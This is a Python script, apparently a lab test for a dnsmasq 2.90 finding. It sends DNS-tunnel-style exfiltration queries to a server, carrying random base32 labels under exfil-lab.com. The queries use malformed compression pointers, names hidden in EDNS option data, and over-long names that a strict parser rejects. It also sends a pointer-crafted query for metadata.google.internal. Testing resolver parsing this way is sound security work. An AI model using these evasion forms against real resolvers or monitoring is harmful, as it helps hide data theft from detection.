#!/usr/bin/env python3
"""exfil.py SERVER [N] [--long] - a dns_tunnel-style exfiltration (N, default 24, names
of high-entropy base32 labels under exfil-lab.com, seed fixed) sent to SERVER:53
over UDP in the question forms dnsmasq 2.90 resolves but a strict reader refuses
(FINDINGS.md R20-1): the name's tail reached through a compression pointer into
the header (offset 4: QDCOUNT's high byte, 0, is the root; dnsmasq keeps it when
forwarding), forward into bytes after the question, and forward into the OPT's
option data; then metadata.google.internal through a pointer into the header.
With --long (R20-2): names of 300 to 1,000 bytes instead (dnsmasq takes up to
1,025), plain and through the forward pointer, and no metadata name.
One query at a time, 1 s to wait for each answer, 0.05 s apart."""
import base64, random, socket, struct, sys

LONG = "--long" in sys.argv
args = [a for a in sys.argv[1:] if a != "--long"]
SERVER = args[0]
N = int(args[1]) if len(args) > 1 else 24
rng = random.Random(20)
DOM = [b"exfil-lab", b"com"]


def lab(*parts):
    return b"".join(bytes([len(p)]) + p for p in parts)


def hdr(i, ar=0):
    return struct.pack(">6H", i, 0x0100, 1, 0, 0, ar)


def msg(i, labels, form):
    if form == 0:      # pointer into the header: offset 4 reads as the root
        return hdr(i) + lab(*labels, *DOM) + b"\xc0\x04" + b"\0\1\0\1"
    if form == 1:      # the domain after the question, reached forward
        head = lab(*labels)
        return hdr(i) + head + struct.pack(">H", 0xC000 | (12 + len(head) + 6)) + b"\0\1\0\1" + lab(*DOM) + b"\0"
    head = lab(*labels)  # the domain inside the OPT record's option data
    tail = lab(*DOM) + b"\0"
    opt = b"\0" + struct.pack(">HHIH", 41, 1232, 0, 4 + len(tail)) + struct.pack(">HH", 65001, len(tail)) + tail
    return hdr(i, ar=1) + head + struct.pack(">H", 0xC000 | (12 + len(head) + 6 + 15)) + b"\0\1\0\1" + opt


s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(1.0)
got = 0
for k in range(N):
    if LONG:
        data = bytes(rng.getrandbits(8) for _ in range(rng.randint(180, 600)))
        b32 = base64.b32encode(data).rstrip(b"=").lower()
        labels = [b32[i:i + 60] for i in range(0, len(b32), 60)] + [b"l%02d" % k]
        form = k % 2
    else:
        data = bytes(rng.getrandbits(8) for _ in range(30))
        b32 = base64.b32encode(data).rstrip(b"=").lower()
        labels = [b32[:24], b32[24:], b"s%02d" % k]
        form = k % 3
    s.sendto(msg(0x5200 + k, labels, form), (SERVER, 53))
    try:
        s.recvfrom(4096)
        got += 1
    except socket.timeout:
        pass
    import time; time.sleep(0.05)
if LONG:
    print("answered %d of %d" % (got, N))
    sys.exit(0)
s.sendto(hdr(0x5300) + lab(b"metadata", b"google", b"internal") + b"\xc0\x04" + b"\0\1\0\1", (SERVER, 53))
try:
    s.recvfrom(4096)
    got += 1
except socket.timeout:
    pass
print("answered %d of %d" % (got, N + 1))
